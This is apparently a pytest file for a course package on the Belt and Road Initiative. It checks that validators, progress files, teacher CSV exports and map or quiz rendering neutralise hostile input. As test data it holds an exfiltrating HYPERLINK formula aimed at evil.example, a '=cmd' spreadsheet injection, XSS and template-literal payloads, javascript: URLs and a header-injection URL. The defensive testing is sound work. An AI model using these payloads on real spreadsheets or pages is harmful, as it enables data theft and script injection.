"""Hostile or broken input, one table: each case names where the input goes and what must happen.

- validator cases break a copy of `data/` (a data file, a GeoJSON file or a quiz file) and
  expect `python -m shared_future.validate` to exit 1 with a line starting `file:row:column:`
  (or `file: question id: field`), never a traceback; `None` means the input is accepted;
- progress cases put something odd at the progress file's path and expect `record()` and
  `show_progress()` to warn, keep every good answer, and never raise or touch a non-file;
- classroom cases check the teacher's CSV files against spreadsheet formulas and odd folders;
- link cases check the hub links a teacher generates.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import warnings
from datetime import date, timedelta
from pathlib import Path

import pytest
import yaml

from shared_future import classroom, escaping, hub_links, progress, validate

REAL_DATA = Path(__file__).resolve().parents[1] / "data"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# a translator's text that tries every context it reaches: page, popup in a JS template literal,
# JSON in a script, a Jinja template, a spreadsheet
HOSTILE_ZH = "=1+1 </script><img src=x onerror=alert(1)> ${alert(2)} `+alert(3)+` {{ 'sf' ~ 'jinja' }} 中文"


# --------------------------------------------------------------------------- data and quiz copies


def _table(folder: Path, name: str) -> list[list[str]]:
    with open(folder / f"{name}.csv", newline="", encoding="utf-8") as source:
        return list(csv.reader(source))


def _write_table(folder: Path, name: str, table: list[list[str]]) -> None:
    with open(folder / f"{name}.csv", "w", newline="", encoding="utf-8") as out:
        csv.writer(out, lineterminator="\n").writerows(table)


def cell(name: str, column: str, value: str, row: int = 0, **others):
    """Set one cell (and optionally other cells of the same row) of a data file."""

    def change(folder: Path) -> None:
        table = _table(folder, name)
        for col, val in {column: value, **others}.items():
            table[row + 1][table[0].index(col)] = val
        _write_table(folder, name, table)

    return change


def find_row(name: str, column: str, value: str) -> int:
    table = _table(REAL_DATA, name)
    return next(i for i, r in enumerate(table[1:]) if r[table[0].index(column)] == value)


def raw(name: str, text: str | bytes):
    def change(folder: Path) -> None:
        path = folder / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))

    return change


def header_only(name: str):
    def change(folder: Path) -> None:
        _write_table(folder, name, _table(folder, name)[:1])

    return change


def with_bom(name: str):
    def change(folder: Path) -> None:
        path = folder / name
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())

    return change


def geo(name: str, mutate):
    def change(folder: Path) -> None:
        path = folder / f"{name}.geojson"
        collection = json.loads(path.read_text(encoding="utf-8"))
        mutate(collection)
        path.write_text(json.dumps(collection), encoding="utf-8")

    return change


def _set(path: list, value):
    def mutate(collection):
        target = collection
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    return mutate


BASE_QUESTION = {
    "id": "what-is-it-1",
    "type": "single",
    "prompt": "Which?",
    "explanation": "Because.",
    "source": "https://example.org/",
    "objective": "Explain.",
    "level": "remember",
    "options": [{"text": "A", "correct": True, "feedback": "Yes."}, {"text": "B", "correct": False, "feedback": "No."}],
}


def quiz(**changes):
    """The what_is_it quiz file replaced by one question with `changes` (None removes a field)."""
    question = {**BASE_QUESTION, **changes}
    question = {k: v for k, v in question.items() if v is not None}
    return raw(
        "quizzes/what_is_it.yaml",
        yaml.safe_dump({"chapter": "what_is_it", "title": "T", "questions": [question]}, sort_keys=False),
    )


def quiz_text(text: str | bytes):
    return raw("quizzes/what_is_it.yaml", text)


DEEP_YAML = "chapter: what_is_it\ntitle: T\nquestions: " + "[" * 10_000 + "]" * 10_000 + "\n"
DEEP_JSON = '{"type": "FeatureCollection", "features": ' + "[" * 10_000 + "]" * 10_000 + "}"
DUPLICATE_QUESTIONS = "chapter: what_is_it\ntitle: T\nquestions: []\nquestions:\n  - {id: x, type: single}\n"
DUPLICATE_CORRECT = yaml.safe_dump(
    {"chapter": "what_is_it", "title": "T", "questions": [BASE_QUESTION]}, sort_keys=False
).replace("correct: true", "correct: true\n    correct: false", 1)
TWO_GOOD_ROWS = "term,chinese,pinyin,definition,source_url\n"
GLOSSARY = "data/glossary.csv:2:definition:"
SOON = (date.today() + timedelta(days=40)).isoformat()  # in the future, within the schema's years
ITALY = find_row("bri_countries", "iso3", "ITA")

CATALOG = "data/locale/zh_CN/LC_MESSAGES/quizzes/origins.po"


def po_edit(relative: str, edit):
    """A catalog of the Chinese edition (under data/locale/zh_CN/LC_MESSAGES/) changed by `edit(text)`."""

    def mutate(folder: Path) -> None:
        path = folder / "locale" / "zh_CN" / "LC_MESSAGES" / relative
        path.write_bytes(edit(path.read_bytes()))

    return mutate


def po_translate(relative: str, context: str, msgstr: str, msgid: str | None = None):
    """One entry of a catalog given a msgstr (and, to break it, another msgid)."""

    def edit(text: bytes) -> bytes:
        head, entry = text.decode("utf-8").split(f'msgctxt "{context}"\n', 1)
        old_id, rest = entry.split("\nmsgstr", 1)
        new_id = f"msgid {json.dumps(msgid, ensure_ascii=False)}" if msgid is not None else old_id
        value = json.dumps(msgstr, ensure_ascii=False)
        return (head + f'msgctxt "{context}"\n{new_id}\nmsgstr {value}' + rest.split("\n", 1)[1]).encode("utf-8")

    return po_edit(relative, edit)


VALIDATOR_CASES = [
    # one-line, bounded, clean fields
    (
        "field of 1 MB",
        cell("glossary", "definition", "x" * 1_000_000),
        "data/glossary.csv:2: not valid CSV: field larger",
    ),
    ("field of 6,000 characters", cell("glossary", "definition", "x" * 6000), f"{GLOSSARY} is 6000 characters long"),
    (
        "line break and a code fence",
        cell("glossary", "definition", "ok\n```\n<script>x()</script>"),
        f"{GLOSSARY} contains a line break",
    ),
    (
        "carriage return in a quoted field",
        raw("glossary.csv", TWO_GOOD_ROWS + '"a\rb",x,y,z,https://a.org/\n'),
        "data/glossary.csv:2:term: contains a line break",
    ),
    ("NUL byte", cell("glossary", "definition", "a\x00b"), "data/glossary.csv:2: contains a NUL byte"),
    ("trailing space in a code", cell("bri_countries", "iso3", "KEN "), "data/bri_countries.csv:2:iso3: has spaces"),
    ("leading space in a title", cell("timeline", "title", " Speech"), "data/timeline.csv:2:title: has spaces"),
    (
        "codes with a space after ';'",
        cell("projects", "iso3", "LAO; CHN"),
        "data/projects.csv:2:iso3: must be ISO 3166-1 alpha-3 codes separated by ';' (no spaces)",
    ),
    ("lower-case code", cell("aiib_members", "iso3", "chn"), "data/aiib_members.csv:2:iso3: must be an ISO 3166-1"),
    ("empty code in a list", cell("projects", "iso3", "LAO;;CHN"), "data/projects.csv:2:iso3: must be ISO 3166-1"),
    (
        "code of a real country not in the course list",
        cell("bri_countries", "iso3", "ABW"),
        "data/bri_countries.csv:2:iso3: ABW is in neither countries.geojson nor small_states.csv",
    ),
    (
        "code of a real country not in the course list, in a list",
        cell("projects", "iso3", "LAO;ABW"),
        "data/projects.csv:2:iso3: ABW is in neither",
    ),
    (
        "small state that the outlines draw",
        cell("small_states", "iso3", "CHN"),
        "data/small_states.csv:2:iso3: is drawn in countries.geojson",
    ),
    # numbers: plain ASCII decimals, finite
    (
        "Arabic-Indic digits",
        cell("timeline", "lat", "٣٩.٩"),
        "data/timeline.csv:2:lat: must be a number from -90 to 90",
    ),
    ("digit separator", cell("timeline", "lat", "3_9.9"), "data/timeline.csv:2:lat: must be a number"),
    ("exponent", cell("timeline", "lon", "1e1"), "data/timeline.csv:2:lon: must be a number"),
    ("NaN", cell("timeline", "lat", "nan"), "data/timeline.csv:2:lat: must be a number"),
    ("infinity", cell("projects", "cost_usd_bn", "inf"), "data/projects.csv:2:cost_usd_bn: must be a number"),
    (
        "huge number",
        cell("projects", "cost_usd_bn", "1" + "0" * 400),
        "data/projects.csv:2:cost_usd_bn: must be a number",
    ),
    ("full-width digits", cell("bri_counts", "count", "１５０"), "data/bri_counts.csv:2:count: must be a number"),
    # URLs
    (
        "URL with no host",
        cell("timeline", "source_url", "http://"),
        "data/timeline.csv:2:source_url: must be an http(s) URL",
    ),
    (
        "URL with credentials",
        cell("timeline", "source_url", "https://user:password@example.org/"),
        "data/timeline.csv:2:source_url: must be an http(s) URL",
    ),
    (
        "javascript: URL",
        cell("glossary", "source_url", "javascript:alert(1)"),
        "data/glossary.csv:2:source_url: must be",
    ),
    (
        "URL with a space",
        cell("glossary", "source_url", "https://example.org/a b"),
        "data/glossary.csv:2:source_url: must be",
    ),
    (
        "URL with a quote",
        cell("glossary", "source_url", 'https://example.org/"onmouseover="x()'),
        "data/glossary.csv:2:source_url: must be",
    ),
    # dates
    (
        "completed project in the future",
        cell("projects", "completed", SOON, status="operational"),
        "data/projects.csv:2:completed: is in the future",
    ),
    ("event in the future", cell("timeline", "date", SOON), "data/timeline.csv:2:date: is in the future"),
    (
        "signature in the future",
        cell("bri_countries", "first_signed", SOON),
        "data/bri_countries.csv:2:first_signed: is in the future",
    ),
    (
        "withdrawal before the first signature",
        cell("bri_countries", "withdrawn", "2018-01-01", row=ITALY),
        f"data/bri_countries.csv:{ITALY + 2}:withdrawn: is before 'first_signed'",
    ),
    ("impossible date", cell("communities", "date", "2019-02-30"), "data/communities.csv:2:date: must be a date"),
    # whole files
    ("header only", header_only("glossary"), "data/glossary.csv: has a header but no data rows"),
    ("empty file", raw("glossary.csv", ""), "data/glossary.csv: file is empty"),
    (
        "not UTF-8",
        raw("glossary.csv", TWO_GOOD_ROWS.encode() + "Pékin,x,y,z,https://a.org/\n".encode("latin-1")),
        "data/glossary.csv:2: not valid UTF-8",
    ),
    (
        "unclosed quote",
        raw("glossary.csv", TWO_GOOD_ROWS + 'a,b,c,"d,https://a.org/\n'),
        "data/glossary.csv:2: not valid CSV",
    ),
    ("ragged row", raw("glossary.csv", TWO_GOOD_ROWS + "a,b\n"), "data/glossary.csv:2: ragged row"),
    ("file missing", lambda folder: (folder / "funds.csv").unlink(), "data/funds.csv: file is missing"),
    ("byte-order mark is accepted", with_bom("glossary.csv"), None),
    # GeoJSON
    (
        "null feature",
        geo("countries", _set(["features", 0], None)),
        "data/countries.geojson:feature 1: must be a GeoJSON Feature object",
    ),
    (
        "list-valued property",
        geo("countries", _set(["features", 0, "properties", "name"], ["a", "b"])),
        "data/countries.geojson:feature 1:name: required property is missing, empty or not text",
    ),
    (
        "null properties",
        geo("corridors", _set(["features", 0, "properties"], None)),
        "data/corridors.geojson:feature 1:properties: must be an object",
    ),
    (
        "coordinates out of range",
        geo("corridors", _set(["features", 0, "geometry", "coordinates", 0], [500, 95])),
        "data/corridors.geojson:feature 1:geometry: position [500, 95] is out of range",
    ),
    (
        "coordinates that are text",
        geo("corridors", _set(["features", 0, "geometry", "coordinates", 0], ["1", "2"])),
        "data/corridors.geojson:feature 1:geometry: position",
    ),
    ("JSON nested 10,000 deep", raw("countries.geojson", DEEP_JSON), "data/countries.geojson: JSON nested too deeply"),
    (
        "malformed JSON",
        raw("corridors.geojson", '{"type": "FeatureCollection", '),
        "data/corridors.geojson:1: malformed JSON",
    ),
    (
        "corridor source not http",
        geo("corridors", _set(["features", 0, "properties", "source_url"], "ftp://x.org/")),
        "data/corridors.geojson:feature 1:source_url: must be an http(s) URL",
    ),
    ("no features", geo("corridors", _set(["features"], [])), "data/corridors.geojson: has no features"),
    # quiz files
    (
        "quiz not UTF-8",
        quiz_text(b"chapter: what_is_it\ntitle: \xff\xfe\n"),
        "data/quizzes/what_is_it.yaml:2: not valid UTF-8",
    ),
    ("quiz nested 10,000 deep", quiz_text(DEEP_YAML), "data/quizzes/what_is_it.yaml: invalid YAML: nested too deeply"),
    (
        "quiz key given twice",
        quiz_text(DUPLICATE_QUESTIONS),
        "data/quizzes/what_is_it.yaml: line 4: invalid YAML: key 'questions' appears twice",
    ),
    (
        "option key given twice",
        quiz_text(DUPLICATE_CORRECT),
        "data/quizzes/what_is_it.yaml: line 14: invalid YAML: key 'correct' appears twice",
    ),
    (
        "numeric answer NaN",
        quiz(type="numeric", options=None, answer=float("nan"), tolerance=0, unit=""),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field answer: Input should be a finite number",
    ),
    (
        "numeric answer 1e400",
        quiz(type="numeric", options=None, answer="1e400", tolerance=0, unit=""),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field answer: Input should be a finite number",
    ),
    (
        "tolerance infinite",
        quiz(type="numeric", options=None, answer=3, tolerance=float("inf"), unit=""),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field tolerance: Input should be a finite number",
    ),
    (
        "blank option",
        quiz(
            options=[{"text": "  ", "correct": True, "feedback": "Y"}, {"text": "B", "correct": False, "feedback": "N"}]
        ),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field options[0].text: must not be blank",
    ),
    (
        "repeated option",
        quiz(
            options=[
                {"text": "Laos", "correct": True, "feedback": "Y"},
                {"text": " laos", "correct": False, "feedback": "N"},
            ]
        ),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field options: option 2 repeats option 1",
    ),
    (
        "repeated ordering item",
        quiz(type="ordering", options=None, items=["2013", "2015", "2013"], feedback="F"),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field items: item 3 repeats item 1",
    ),
    (
        "blank explanation",
        quiz(explanation=" \n "),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field explanation: must not be blank",
    ),
    (
        "title on two lines",
        raw("quizzes/what_is_it.yaml", 'chapter: what_is_it\ntitle: "a\\nb"\nquestions: []\n'),
        "data/quizzes/what_is_it.yaml: field title: must be one line",
    ),
    (
        "option text on two lines",
        quiz(
            options=[
                {"text": "A\n```", "correct": True, "feedback": "Y"},
                {"text": "B", "correct": False, "feedback": "N"},
            ]
        ),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field options[0].text: must be one line",
    ),
    (
        "source with no host",
        quiz(source="http://"),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field source: 'http://' is neither",
    ),
    (
        "javascript: source",
        quiz(source="javascript:alert(1)"),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field source:",
    ),
    (
        "unknown question type",
        quiz(type="essay"),
        "data/quizzes/what_is_it.yaml: question what-is-it-1: field type: unknown type 'essay'",
    ),
    ("missing prompt", quiz(prompt=None), "data/quizzes/what_is_it.yaml: question what-is-it-1: field prompt: missing"),
    ("quiz is a list", quiz_text("- a\n- b\n"), "data/quizzes/what_is_it.yaml: must be a mapping"),
    (
        "invalid YAML",
        quiz_text("chapter: [unclosed\n"),
        "data/quizzes/what_is_it.yaml: line 1: invalid YAML: while parsing a flow sequence",
    ),
    (
        "question id used in another chapter",
        quiz(id="origins-1"),
        "data/quizzes/what_is_it.yaml: question origins-1: field id: duplicate",
    ),
    # the Chinese edition's quiz and data catalogs (data/locale/)
    (
        "catalog that is not gettext",
        po_edit("quizzes/origins.po", lambda t: b"<html>not a catalog</html>\n"),
        CATALOG + ": not a valid gettext catalog (Unknown or misformatted keyword on 0)",
    ),
    (
        "catalog not in UTF-8",
        po_edit("quizzes/origins.po", lambda t: t.replace("谁".encode(), b"\xff") + b"\n#. \xff\n"),
        CATALOG + ": not a valid gettext catalog",
    ),
    (
        "catalog of a quiz that does not exist",
        lambda folder: shutil.copy(
            folder / "locale/zh_CN/LC_MESSAGES/quizzes/origins.po", folder / "locale/zh_CN/LC_MESSAGES/quizzes/essay.po"
        ),
        "data/locale/zh_CN/LC_MESSAGES/quizzes/essay.po: there is no quiz in data/quizzes called 'essay'",
    ),
    (
        "translation of a question that does not exist",
        po_edit(
            "quizzes/origins.po",
            lambda t: t + b'\nmsgctxt "origins-99.prompt"\nmsgid "Who?"\nmsgstr "\xe8\xb0\x81\xef\xbc\x9f"\n',
        ),
        CATALOG + ": msgctxt 'origins-99.prompt' (question origins-99: field prompt): names no question",
    ),
    (
        "translation of an English text that changed",
        po_translate("quizzes/origins.po", "origins-1.prompt", "谁？", msgid="Who read it?"),
        CATALOG + ": msgctxt 'origins-1.prompt' (question origins-1: field prompt): msgid no longer matches",
    ),
    (
        "translation of a data row that does not exist",
        po_edit(
            "data/timeline.po",
            lambda t: t + b'\nmsgctxt "1999-01-01/Nothing.title"\nmsgid "Nothing"\nmsgstr "\xe6\x97\xa0"\n',
        ),
        "data/locale/zh_CN/LC_MESSAGES/data/timeline.po: msgctxt '1999-01-01/Nothing.title' "
        "(row 1999-01-01/Nothing: field title): names no row or column",
    ),
    (
        "translation without msgctxt",
        po_edit("data/pillars.po", lambda t: t + b'\nmsgid "politics"\nmsgstr "\xe6\x94\xbf\xe6\xb2\xbb"\n'),
        "data/locale/zh_CN/LC_MESSAGES/data/pillars.po: msgid 'politics': has no msgctxt",
    ),
    ("hostile translation is accepted (and escaped)", po_translate("quizzes/origins.po", "title", HOSTILE_ZH), None),
]


@pytest.mark.parametrize("change, expected", [pytest.param(c, e, id=i) for i, c, e in VALIDATOR_CASES])
def test_validator_names_the_file_row_and_field(data_copy, capsys, change, expected):
    change(data_copy)
    status = validate.main([str(data_copy)])
    lines = capsys.readouterr().out.splitlines()
    if expected is None:
        assert status == 0, lines
        return
    assert status == 1
    assert any(line.startswith(expected) for line in lines), f"expected {expected!r} in {lines}"
    assert not any("Traceback" in line or "could not be checked" in line for line in lines), lines


def test_validator_reports_every_problem_in_one_run(data_copy, capsys):
    cell("glossary", "definition", "x" * 6000)(data_copy)
    cell("timeline", "lat", "nan")(data_copy)
    quiz(source="http://")(data_copy)
    assert validate.main([str(data_copy)]) == 1
    out = capsys.readouterr().out
    assert "glossary.csv:2:definition" in out and "timeline.csv:2:lat" in out and "what_is_it.yaml" in out


# --------------------------------------------------------------------------- progress


@pytest.fixture
def progress_at(tmp_path, monkeypatch):
    monkeypatch.setenv("SHARED_FUTURE_STUDENT", "ana")

    def at(path: Path | str) -> Path:
        monkeypatch.setenv("SHARED_FUTURE_PROGRESS", str(path))
        return Path(path)

    return at


def _record_and_show(expected_warning: str) -> None:
    with pytest.warns(UserWarning, match=expected_warning):
        progress.record("what_is_it", "q1", "A", True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        progress.show_progress()


@pytest.mark.parametrize("device", ["/dev/null", "/dev/full", "/dev/zero"])
def test_progress_never_replaces_or_reads_a_device(progress_at, device):
    if not os.path.exists(device):
        pytest.fail(f"{device} is missing on this machine")
    before = os.stat(device)
    progress_at(device)
    _record_and_show("is a device or special file, not a regular file")
    after = os.stat(device)
    assert (after.st_mode, after.st_rdev) == (before.st_mode, before.st_rdev)


def test_progress_leaves_a_folder_alone(progress_at, tmp_path):
    folder = progress_at(tmp_path / "progress.json")
    folder.mkdir()
    (folder / "keep.txt").write_text("mine")
    _record_and_show("is a folder, not a regular file")
    assert (folder / "keep.txt").read_text() == "mine" and not list(tmp_path.glob("*.corrupt-*"))


def test_progress_leaves_a_symbolic_link_and_its_target_alone(progress_at, tmp_path):
    target = tmp_path / "elsewhere.txt"
    target.write_text("not json")
    link = progress_at(tmp_path / "progress.json")
    link.symlink_to(target)
    _record_and_show("is a symbolic link")
    assert link.is_symlink() and target.read_text() == "not json"


def test_an_oversized_progress_file_is_set_aside_not_read(progress_at, tmp_path, monkeypatch):
    path = progress_at(tmp_path / "progress.json")
    monkeypatch.setattr(progress, "MAX_BYTES", 1000)
    path.write_text(json.dumps({"students": {"x": "y" * 5000}}))
    _record_and_show("larger than")
    assert json.loads(path.read_text())["students"]["ana"]["what_is_it"]["q1"]["correct"] is True
    assert len(list(tmp_path.glob("progress.json.corrupt-*"))) == 1


@pytest.mark.parametrize(
    "content, warning",
    [
        (b'{"students": 5}', "not a progress file"),
        (b'{"students": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
        (b"\xff\xfe not utf-8", "unreadable"),
    ],
)
def test_unreadable_progress_files_are_set_aside(progress_at, tmp_path, content, warning):
    path = progress_at(tmp_path / "progress.json")
    path.write_bytes(content)
    _record_and_show(warning)
    (aside,) = tmp_path.glob("progress.json.corrupt-*")
    assert aside.read_bytes() == content


@pytest.mark.parametrize(
    "students",
    [
        {"alice": []},
        {"alice": {"origins": "done"}},
        {"alice": {"origins": {"o1": {"answer": "A", "correct": "yes", "answered_at": "x"}}}},
        {"alice": {"origins": {"o1": None}}},
    ],
)
def test_a_wrong_shaped_entry_is_set_aside_and_others_kept(progress_at, tmp_path, students):
    path = progress_at(tmp_path / "progress.json")
    good = {"answer": "B", "correct": False, "answered_at": "2026-01-01T00:00:00+00:00"}
    path.write_text(json.dumps({"version": 1, "students": {**students, "ben": {"origins": {"o2": good}}}}))
    _record_and_show("set aside")
    saved = json.loads(path.read_text())
    assert saved["students"]["ben"]["origins"]["o2"] == good
    assert saved["students"]["ana"]["what_is_it"]["q1"]["answer"] == "A"
    assert saved["set_aside"] and saved["set_aside"][0]["student"] == "alice"


def test_another_students_bad_entry_does_not_break_show_progress(progress_at, tmp_path, monkeypatch):
    path = progress_at(tmp_path / "progress.json")
    path.write_text(
        json.dumps(
            {
                "students": {
                    "alice": [],
                    "ana": {
                        "origins": {"o1": {"answer": "A", "correct": True, "answered_at": "2026-01-01T00:00:00+00:00"}}
                    },
                }
            }
        )
    )
    with pytest.warns(UserWarning, match="set aside"):
        table = progress.show_progress()
    assert table.to_dict("index") == {"origins": {"answered": 1, "correct": 1}}


# --------------------------------------------------------------------------- teacher's CSV files


@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'quoted"])
def test_spreadsheet_cells_are_neutralised_and_read_back(value):
    cell_text = escaping.spreadsheet_cell(value)
    assert cell_text.startswith("'") and escaping.spreadsheet_value(cell_text) == value


def test_export_and_merge_carry_formulas_as_text(progress_at, tmp_path, monkeypatch):
    progress_at(tmp_path / "progress.json")
    monkeypatch.setenv("SHARED_FUTURE_STUDENT", "=cmd|' /C calc'!A0")
    progress.record("what_is_it", "q1", FORMULA, True)
    folder = tmp_path / "class"
    folder.mkdir()
    exported = progress.export_csv(folder / "ana.csv")
    rows = list(csv.reader(exported.open(encoding="utf-8")))
    assert all(not c.startswith(("=", "+", "-", "@")) for c in rows[1]), rows[1]
    assert classroom.main(["merge", str(folder), "-o", str(tmp_path / "class.csv")]) == 0
    merged = list(csv.DictReader((tmp_path / "class.csv").open(encoding="utf-8")))
    assert merged[0]["student"] == "'=cmd|' /C calc'!A0" and merged[0]["answer"] == "'" + FORMULA
    assert classroom.merge_folder(folder).answers[("=cmd|' /C calc'!A0", "what_is_it", "q1")].answer == FORMULA


def _class_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "ana.csv").write_text(",".join(progress.COLUMNS) + "\nana,origins,o1,A,True,2026-01-01T00:00:00+00:00\n")
    return folder


def test_merge_ignores_its_own_output(tmp_path, capsys):
    folder = _class_folder(tmp_path)
    for _ in range(2):
        assert classroom.main(["merge", str(folder), "-o", str(folder / "class.csv")]) == 0
    assert "replaced" not in capsys.readouterr().err and "found in" not in capsys.readouterr().err
    assert len(list(csv.DictReader((folder / "class.csv").open()))) == 1


def test_merge_does_not_follow_links_out_of_the_folder(tmp_path, capsys):
    folder = _class_folder(tmp_path)
    outside = tmp_path / "secret.csv"
    outside.write_text(",".join(progress.COLUMNS) + "\nzed,origins,o1,A,True,2026-01-01T00:00:00+00:00\n")
    (folder / "link.csv").symlink_to(outside)
    merge = classroom.merge_folder(folder)
    assert {key[0] for key in merge.answers} == {"ana"}
    assert any(m.startswith("link.csv: is a link to a file outside the folder") for m in merge.messages)


def test_unwritable_output_is_a_clear_message(tmp_path, capsys):
    folder = _class_folder(tmp_path)
    assert classroom.main(["merge", str(folder), "-o", str(tmp_path / "missing" / "class.csv")]) == 1
    assert "class.csv: cannot be written (No such file or directory)" in capsys.readouterr().err


def test_huge_field_in_an_export_is_a_message(tmp_path):
    folder = _class_folder(tmp_path)
    (folder / "big.csv").write_text(",".join(progress.COLUMNS) + "\nben,origins,o1," + "x" * 200_000 + ",True,2026\n")
    merge = classroom.merge_folder(folder)
    assert any(m.startswith("big.csv, after line") and "not valid CSV" in m for m in merge.messages)


# --------------------------------------------------------------------------- links


@pytest.mark.parametrize(
    "hub",
    [
        "https://hub.school.example/ x",
        "https://hub.school.example/\nSet-Cookie: a=b",
        "https://user:pw@hub.school.example",
        "https://:pw@hub.school.example",
        "javascript:alert(1)",
        "https://",
        "hub.school.example",
        " https://hub.school.example",
    ],
)
def test_hub_links_reject_spaces_line_breaks_and_credentials(hub):
    with pytest.raises(ValueError, match="hub_url"):
        hub_links.nbgitpuller_link(hub, "https://github.com/a/b")


@pytest.mark.parametrize(
    "url",
    [
        "http://",
        "https://user:pw@example.org/",
        "javascript:alert(1)",
        "https://example.org/a b",
        "data:text/html,<script>",
        "//example.org/",
    ],
)
def test_unsafe_urls_are_never_links(url):
    assert escaping.safe_url(url) is None and escaping.html_link(url) == ""
    assert "href" not in escaping.myst_link(url, "label")


# --------------------------------------------------------------------------- folium text and map tables

FOLIUM_PAYLOAD = "<img src=x onerror=alert(1)> ${alert(2)} `+alert(3)+` \\u0041 </script>"


def test_folium_text_cannot_leave_folium_popups_and_tooltips():
    """folium writes popup and tooltip text as HTML inside a JavaScript template literal."""
    import folium

    from shared_future import map_display

    m = folium.Map(tiles=None)
    folium.CircleMarker(
        [0, 0], tooltip=escaping.folium_text(FOLIUM_PAYLOAD), popup=folium.Popup(escaping.folium_text(FOLIUM_PAYLOAD))
    ).add_to(m)
    document = map_display.document(m) or m.get_root().render()
    for live in ("<img", "${", "`+alert", "\\u0041", "alert(1)></script>"):
        assert live not in document, live
    assert escaping.folium_text(FOLIUM_PAYLOAD).count("&#36;&#123;") == 1  # braces too: folium compiles tooltips


def test_a_hostile_translation_cannot_leave_a_folium_template_literal():
    """A student's folium popup of translated text: the same escaping as English text."""
    import folium

    m = folium.Map(tiles=None)
    popup = folium.Popup(escaping.folium_text(HOSTILE_ZH))
    folium.CircleMarker([0, 0], tooltip=escaping.folium_text(HOSTILE_ZH), popup=popup).add_to(m)
    document = m.get_root().render()
    for live in ("<img", "${alert", "`+alert", "sfjinja"):
        assert live not in document, live
    assert "中文" in document


def test_map_tables_show_hostile_text_as_text():
    from bs4 import BeautifulSoup
    from test_maps import HOSTILE, hostile_frames

    for m in hostile_frames():
        text = m.table.html()
        soup = BeautifulSoup(text, "html.parser")
        assert not soup.find_all(["script", "img"]), m.sf_name
        assert HOSTILE in soup.get_text(), m.sf_name
        assert all(a["href"].startswith("https://") for a in soup.find_all("a")), m.sf_name


# --------------------------------------------------------------------------- hostile translations (Chinese edition)


def hostile_catalogs(folder: Path) -> None:
    """Every message of every quiz and data catalog translated with HOSTILE_ZH."""
    import io

    from babel.messages.pofile import read_po, write_po

    for path in (folder / "locale").rglob("*.po"):
        catalog = read_po(path.open("rb"))
        for number, message in enumerate(catalog):
            if message.id:
                message.string = f"{HOSTILE_ZH} {number}"  # numbered: keys and options stay distinct
        out = io.BytesIO()
        write_po(out, catalog, width=0)
        path.write_bytes(out.getvalue())


def no_live_payload(document: str) -> None:
    """No element, no way out of a script, no Jinja evaluated (text in JSON strings is inert)."""
    for live in ("<img", "sfjinja", "</script><img"):
        assert live not in document, live


def test_hostile_translations_stay_text_in_quizzes(data_copy):
    from bs4 import BeautifulSoup

    from shared_future.quiz import quiz

    hostile_catalogs(data_copy)
    html = quiz("origins", live=False, lang="zh")._repr_mimebundle_()["text/html"]
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all("img") and len(soup.find_all("script")) == 2
    assert HOSTILE_ZH in soup.get_text()
    key = json.loads(soup.find("script", type="application/json").get_text())
    assert key["questions"][0]["explanation"].startswith(HOSTILE_ZH)
    no_live_payload(html.replace(escaping.html_text(HOSTILE_ZH), ""))


def test_hostile_translations_stay_text_in_maps_and_the_timeline(data_copy):
    from bs4 import BeautifulSoup

    from shared_future import maps
    from shared_future.timeline import timeline

    hostile_catalogs(data_copy)
    for make in maps.ALL_MAPS:
        m = make(tiles=False, lang="zh")
        document = m.get_root().render()
        no_live_payload(document)
        assert "\\u4e2d\\u6587" in document or "中文" in document, make.__name__  # the translations are there
        table = BeautifulSoup(m.table.html(), "html.parser")
        assert not table.find_all(["script", "img"]), make.__name__
    html = timeline(lang="zh")._repr_html_()
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all("img") and HOSTILE_ZH in soup.get_text()


def test_a_hostile_translated_answer_reaches_the_spreadsheet_as_text(data_copy, progress_at, tmp_path):
    from shared_future.quiz import quiz

    hostile_catalogs(data_copy)
    progress_at(tmp_path / "progress.json")
    live = quiz("origins", live=True, lang="zh").widgets
    question = live.questions[0]
    question.inputs[0].value = question.order[0]
    question.check_answer()
    exported = progress.export_csv(tmp_path / "ana.csv")
    rows = list(csv.reader(exported.open(encoding="utf-8")))
    assert rows[0] == progress.EXPORT_COLUMNS  # the machine-readable header in every language
    assert rows[1][3].startswith("'=1+1") and escaping.spreadsheet_value(rows[1][3]).startswith(HOSTILE_ZH)
